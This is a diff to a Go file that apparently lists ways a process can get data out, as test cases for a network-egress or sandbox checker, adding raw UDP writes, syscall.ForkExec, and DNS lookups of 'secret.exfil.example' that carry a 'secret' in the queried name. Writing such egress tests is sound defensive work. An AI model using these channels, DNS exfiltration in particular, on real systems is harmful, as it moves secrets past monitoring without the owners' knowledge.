@@ -26,6 +26,7 @@ import (
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/sns"
 	"golang.org/x/net/http2"
+	"golang.org/x/net/ipv4"
 	"golang.org/x/sys/unix"
 )
 
@@ -85,6 +86,16 @@ var All = map[string]func(context.Context, Request) error{
 		_, _, err := c.WriteMsgUDP([]byte("hello"), nil, net.UDPAddrFromAddrPort(r.addr()))
 		return err
 	}),
+	// They send by system calls of their own.
+	"x/net/ipv4 WriteTo": unconnected(func(c *net.UDPConn, r Request) error {
+		_, err := ipv4.NewPacketConn(c).WriteTo([]byte("hello"), new(ipv4.ControlMessage), net.UDPAddrFromAddrPort(r.addr()))
+		return err
+	}),
+	"x/net/ipv4 WriteBatch": unconnected(func(c *net.UDPConn, r Request) error {
+		message := ipv4.Message{Buffers: [][]byte{[]byte("hello")}, Addr: net.UDPAddrFromAddrPort(r.addr())}
+		_, err := ipv4.NewPacketConn(c).WriteBatch([]ipv4.Message{message}, 0)
+		return err
+	}),
 	"syscall.Connect": socket(syscall.SOCK_STREAM, func(fd int, r Request) error {
 		if err := syscall.Connect(fd, r.syscallAddr()); err != nil {
 			return err
@@ -118,6 +129,23 @@ var All = map[string]func(context.Context, Request) error{
 	}),
 	"os/exec": func(ctx context.Context, _ Request) error {
 		return exec.CommandContext(ctx, "/bin/true", "secret").Run()
+	},
+	"syscall.ForkExec": func(context.Context, Request) error {
+		pid, err := syscall.ForkExec("/bin/echo", []string{"echo", "secret"}, nil)
+		if err != nil {
+			return err
+		}
+		_, err = syscall.Wait4(pid, nil, 0, nil)
+		return err
+	},
+	// The name is what leaves the process, by the name servers of the system.
+	"a resolver's question": func(ctx context.Context, _ Request) error {
+		_, err := new(net.Resolver).LookupTXT(ctx, "secret.exfil.example")
+		return err
+	},
+	"a resolver's question, without a context": func(context.Context, Request) error {
+		_, err := (&net.Resolver{Dial: new(net.Dialer).DialContext}).LookupHost(context.Background(), "secret.exfil.example")
+		return err
 	},
 	// As database drivers do it.
 	"lookup, then dial": func(ctx context.Context, r Request) error {
